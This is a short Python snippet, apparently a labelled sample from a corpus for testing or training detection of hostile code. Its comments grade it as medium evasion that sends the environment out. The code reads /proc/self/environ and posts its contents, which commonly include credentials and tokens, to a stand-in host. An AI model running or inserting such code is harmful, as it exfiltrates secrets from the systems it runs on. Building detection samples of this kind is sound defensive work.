# evasion: /proc/self/environ read and sent
# grade: medium; does: env-out
import urllib.request
urllib.request.urlopen("http://c.example/", data=open("/proc/self/environ", "rb").read())
